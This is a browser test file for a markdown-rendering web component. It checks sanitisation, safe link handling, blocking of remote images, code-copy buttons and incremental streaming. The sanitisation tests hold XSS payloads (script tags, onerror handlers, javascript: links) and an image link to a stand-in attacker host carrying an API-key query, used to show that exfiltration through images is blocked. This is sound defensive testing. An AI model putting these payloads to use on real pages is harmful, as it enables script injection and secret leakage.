import { afterEach, describe, expect, test } from 'vitest';
import { userEvent } from 'vitest/browser';
import { MarkdownBlocks } from '../../src/elements/markdown/markdown-blocks.js';
import '../../src/elements/markdown/mcp-markdown.js';
import type { McpMarkdown } from '../../src/elements/markdown/mcp-markdown.js';

async function mount(text: string, streaming = false): Promise<McpMarkdown> {
  const el = document.createElement('mcp-markdown');
  el.text = text;
  el.streaming = streaming;
  document.body.append(el);
  await el.updateComplete;
  return el;
}
const root = (el: McpMarkdown) => el.shadowRoot!;

afterEach(() => document.body.replaceChildren());

describe('sanitized markdown', () => {
  test('drops scripts, event handlers, styles and javascript: links', async () => {
    const el = await mount(
      [
        '<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">',
        '',
        '[bad](javascript:alert(1)) [data](data:text/html,hi) <a href="JaVaScRiPt:alert(1)">x</a> <b style="position:fixed">s</b>',
        '',
        '<iframe src="https://example.com"></iframe><form><button>b</button></form>',
      ].join('\n'),
    );
    await new Promise((r) => setTimeout(r, 50));
    expect((window as { pwned?: number }).pwned).toBeUndefined();
    const r = root(el);
    expect(r.querySelector('script, iframe, form, [onerror], [style]')).toBeNull();
    for (const a of r.querySelectorAll('a')) expect(a.hasAttribute('href')).toBe(false);
    expect(r.textContent).toContain('bad');
  });

  test('http, https and mailto links open in a new tab without opener or referrer', async () => {
    const el = await mount('[a](https://example.com/a) [b](http://example.com/b) [m](mailto:x@example.com)');
    const links = [...root(el).querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a', 'http://example.com/b', 'mailto:x@example.com']);
    for (const a of links) {
      expect(a.target).toBe('_blank');
      expect(a.rel).toBe('noopener noreferrer');
    }
  });

  test('remote images are not fetched: each becomes a link to open; inline data images show', async () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
    const el = await mount(`![secret](https://attacker.example/leak?q=api-key) ![dot](${pixel}) ![x](javascript:alert(1))`);
    const r = root(el);
    const imgs = [...r.querySelectorAll('img')];
    expect(imgs.map((i) => i.getAttribute('src'))).toEqual([pixel]);
    const link = r.querySelector<HTMLAnchorElement>('a.remote-image')!;
    expect(link.textContent).toBe('Image: secret (attacker.example)');
    expect(link.getAttribute('href')).toBe('https://attacker.example/leak?q=api-key');
    expect(link.rel).toBe('noopener noreferrer');
    expect(r.innerHTML).not.toContain('javascript:');
  });

  test('renders GFM tables and code blocks with a working copy button', async () => {
    const el = await mount('| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n');
    const r = root(el);
    expect([...r.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['1', '2']);
    expect(r.querySelector('pre code')!.textContent).toBe('const x = 1;\n');
    const copy = r.querySelector<HTMLButtonElement>('button.copy')!;
    expect(copy.getAttribute('aria-label')).toBe('Copy code');
    await userEvent.click(copy);
    await expect.poll(() => copy.textContent).toBe('Copied');
    // Paste what was copied into a text area, as a person would.
    const area = document.body.appendChild(document.createElement('textarea'));
    area.focus();
    await userEvent.keyboard('{Control>}v{/Control}');
    expect(area.value).toBe('const x = 1;\n');
  });
});

describe('streaming', () => {
  test('finished blocks keep their DOM while the last block grows', async () => {
    const el = await mount('# Title\n\nFirst paragraph.\n\nSecond', true);
    const r = root(el);
    const heading = r.querySelector('h1')!;
    const first = [...r.querySelectorAll('p')].find((p) => p.textContent === 'First paragraph.')!;
    expect(first).toBeTruthy();
    for (const piece of [' grows', ' and grows.\n\n- item 1\n', '- item 2\n\n```\ncode', '\n```\n\nEnd.']) {
      el.text += piece;
      await el.updateComplete;
      await new Promise((r) => requestAnimationFrame(r));
      await el.updateComplete;
      // Same nodes: the finished blocks were not rendered again.
      expect(r.querySelector('h1')).toBe(heading);
      expect(first.isConnected).toBe(true);
    }
    el.streaming = false;
    await el.updateComplete;
    const whole = await mount(el.text);
    expect(root(el).querySelector('.body')!.textContent!.replace(/\s+/g, ' ')).toBe(
      root(whole).querySelector('.body')!.textContent!.replace(/\s+/g, ' '),
    );
    expect(r.querySelectorAll('li')).toHaveLength(2);
  });

  test('MarkdownBlocks only re-examines the tail', () => {
    const blocks = new MarkdownBlocks();
    blocks.update('Para one.\n\nPara two');
    expect(blocks.stable).toEqual(['Para one.']);
    expect(blocks.tail).toBe('\n\nPara two');
    const source = 'Para one.\n\nPara two.\n\n```\nunclosed\n\nstill code';
    const { added } = blocks.update(source);
    expect(added.map((b) => b.trim())).toEqual(['Para two.']);
    expect(blocks.stable.join('') + blocks.tail).toBe(source);
    expect(blocks.tail).toContain('still code');
    expect(blocks.finish().join('')).toContain('unclosed');
    expect(blocks.tail).toBe('');
    // A source that does not extend the previous one starts over.
    expect(blocks.update('Other').reset).toBe(true);
  });
});
